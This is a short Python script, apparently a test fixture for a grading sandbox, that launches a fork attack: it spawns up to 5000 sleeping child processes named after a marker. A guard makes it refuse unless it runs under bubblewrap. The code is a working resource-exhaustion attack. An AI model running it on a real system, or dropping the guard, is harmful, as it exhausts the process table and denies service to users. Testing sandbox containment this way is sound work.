"""Attack: forks. A client that forks sleeping copies of itself until it can fork no more, and leaves them, each
named after the marker (its process name, as ps shows it)."""
import ctypes
import os
import time

# The attack is real: outside a sandbox, where no process limit holds for root, it would fill the machine with
# processes. So it runs only where the first process it sees is bubblewrap's, and otherwise refuses, which fails
# this submission's grade, and the test that expects it graded.
if not open("/proc/1/cmdline", "rb").read().startswith(b"bwrap"):
    raise SystemExit("not in a sandbox: the attack refuses to run")

MARKER = open("marker.txt").read().strip()
started = 0
for _ in range(5000):
    try:
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, MARKER.encode()[:15])  # PR_SET_NAME
            time.sleep(600)
            os._exit(0)
        started += 1
    except OSError:
        break
print("started", started, "processes", flush=True)
